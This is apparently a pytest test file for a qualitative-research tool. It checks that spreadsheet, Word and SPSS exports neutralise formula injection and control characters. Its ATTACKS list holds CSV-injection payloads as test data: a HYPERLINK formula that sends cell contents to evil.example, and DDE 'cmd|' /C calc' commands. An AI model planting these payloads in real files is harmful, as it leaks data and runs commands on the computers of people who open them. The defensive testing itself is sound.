"""Exports of hostile project text: no formula runs in a spreadsheet, no writer crashes.

OWASP "CSV Injection": a cell starting with = + - @ (or a tab / CR before one) is run as a
formula by Excel and LibreOffice. Project text comes from transcripts, survey answers and
colleagues' codebooks, so we write it as inert text.
"""

from __future__ import annotations

import csv
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pyreadstat
import pytest

from qualcode.core.span import Span
from qualcode.core.survey import Variable, VariableType
from qualcode.io.surveys.writers import write_csv, write_sav, write_xlsx
from qualcode.services.codebook.codes import add_code
from qualcode.services.codebook.codebook_io import (
    codebook_entries,
    export_codebook_table,
    import_codebook,
)
from qualcode.services.coding.segments import apply_code
from qualcode.services.corpus.documents import add_document
from qualcode.services.export import export_codebook_docx, export_segments_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# characters openpyxl refuses (IllegalCharacterError) and lxml rejects in Word
NASTY = "bell\x07 nul\x00 esc\x1b[31m vt\x0bff\x0c end \ufffe"


@pytest.fixture
def hostile(project, coder):
    # a document's CR is normalised to a line break; the CR case is in the survey test
    # (and SQLite's length() stops at a NUL, so the document's text has none)
    text = "\n".join([a for a in ATTACKS if not a.startswith("\r")] + ["-42", NASTY.replace("\x00", "")])
    doc = add_document(project, "=cmd|' /C calc'!A0", text).value
    starts = [0]
    for line in doc.text.split("\n")[:-1]:
        starts.append(starts[-1] + len(line) + 1)
    lines = doc.text.split("\n")
    for i, (start, line) in enumerate(zip(starts, lines)):
        code = add_code(project, f"{'=' if i % 2 else '@'}code {i}", definition=ATTACKS[i % len(ATTACKS)]).value
        apply_code(project, doc.id, Span(start, start + len(line)), code.id, coder.id)
    return project, lines


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_segments_csv_quotes_every_formula_like_text_cell(hostile, tmp_path):
    project, _lines = hostile
    out = tmp_path / "segments.csv"
    export_segments_table(project, out)
    rows = _read_csv(out)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and c != "-42"]
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
    assert "'\t=1+1" in texts
    # a plain number written as text cannot be a formula: it is left alone
    assert "-42" in texts
    # the document name is escaped too
    assert "'=cmd|' /C calc'!A0" in {row[rows[0].index("document")] for row in rows[1:]}
    # no control characters reach the file
    assert not any(ch in cell for cell in cells for ch in "\x00\x07\x1b")


def test_segments_xlsx_has_no_formulas_and_keeps_the_text(hostile, tmp_path):
    project, _lines = hostile
    out = tmp_path / "segments.xlsx"
    export_segments_table(project, out)
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    # stored as text exactly as written: nothing to undo for a reader of the workbook
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in values
    assert "=code 1" in values
    nasty = next(v for v in values if isinstance(v, str) and v.startswith("bell"))
    assert nasty == "bell nul esc[31m vt\nff\n end "
    assert sheet["A1"].value == "segment_id"


def test_long_text_fits_an_excel_cell(project, coder, tmp_path):
    doc = add_document(project, "long", "word " * 10_000).value
    code = add_code(project, "Long").value
    apply_code(project, doc.id, Span(0, len(doc.text)), code.id, coder.id)
    out = tmp_path / "long.xlsx"
    export_segments_table(project, out)
    text = openpyxl.load_workbook(out).active["I2"].value
    assert len(text) == 32767 and text.endswith("[truncated]")


def test_codebook_csv_round_trips_formula_like_definitions(hostile, tmp_path):
    project, _ = hostile
    out = tmp_path / "codebook.csv"
    export_codebook_table(project, out)
    assert not [c for row in _read_csv(out) for c in row if c.startswith(("=", "+", "@"))]
    # the reader strips surrounding whitespace from every cell (as for any codebook)
    before = {e.name: e.definition.strip() for e in codebook_entries(project)}
    from qualcode.io.codebooks import read_codebook

    assert {e.name: e.definition for e in read_codebook(out)} == before
    assert import_codebook(project, out).value is not None


def test_codebook_xlsx_and_word_survive_control_characters(project, tmp_path):
    add_code(project, "Esc\x1b[2J code", definition=NASTY)
    export_codebook_table(project, tmp_path / "cb.xlsx")
    export_codebook_table(project, tmp_path / "cb.docx")
    export_codebook_docx(project, tmp_path / "full.docx")
    sheet = openpyxl.load_workbook(tmp_path / "cb.xlsx").active
    assert sheet["C2"].value == "bell nul esc[31m vt\nff\n end "
    table_text = docx.Document(str(tmp_path / "cb.docx")).tables[0].rows[1].cells[2].text
    assert "\x1b" not in table_text and table_text.startswith("bell nul esc[31m")


def test_survey_writers_escape_column_names_and_answers(tmp_path):
    frame = pd.DataFrame({"=cmd": ["=1+1", "ok\x00"], "score": [-1.5, 2.0], "@note": ["\r=x", "-3"]})
    write_csv(frame, tmp_path / "s.csv")
    rows = _read_csv_plain(tmp_path / "s.csv")
    assert rows[0] == ["'=cmd", "score", "'@note"]
    assert rows[1] == ["'=1+1", "-1.5", "\n=x"]  # a bare CR would end the row
    assert rows[2] == ["ok", "2.0", "-3"]

    write_xlsx(frame, tmp_path / "s.xlsx", variables=[Variable("=cmd", "=HYPERLINK(1)", VariableType.TEXT)])
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert book["data"]["A1"].value == "=cmd" and book["data"]["B2"].value == -1.5
    assert book["variables"]["B2"].value == "=HYPERLINK(1)"


def _read_csv_plain(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_sav_strips_control_characters_from_text_and_labels(tmp_path):
    frame = pd.DataFrame({"answer": ["fine\x00 really", "esc\x1b here"], "n": [1.0, 2.0]})
    variables = [Variable("answer", "Label\x07 bell", VariableType.TEXT), Variable("n", "n", VariableType.COUNT)]
    write_sav(frame, variables, tmp_path / "s.sav")
    back, meta = pyreadstat.read_sav(str(tmp_path / "s.sav"))
    assert list(back["answer"]) == ["fine really", "esc here"]
    assert meta.column_names_to_labels["answer"] == "Label bell"


def test_report_with_dollar_signs_and_controls_in_names_is_written(project, tmp_path):
    """Matplotlib would parse "$...$" in a map label as maths and fail on "\\frac"."""
    from qualcode.services.export import export_report_docx
    from qualcode.services.themes.theme_edits import create_theme

    code = add_code(project, "Costs $\\frac$ and $5", definition=NASTY).value
    create_theme(project, "Money $\\alpha\x1b[0m", code_ids=[code.id], narrative=NASTY)
    out = tmp_path / "report.docx"
    export_report_docx(project, out)
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "Money $\\alpha[0m" in text and "\x1b" not in text
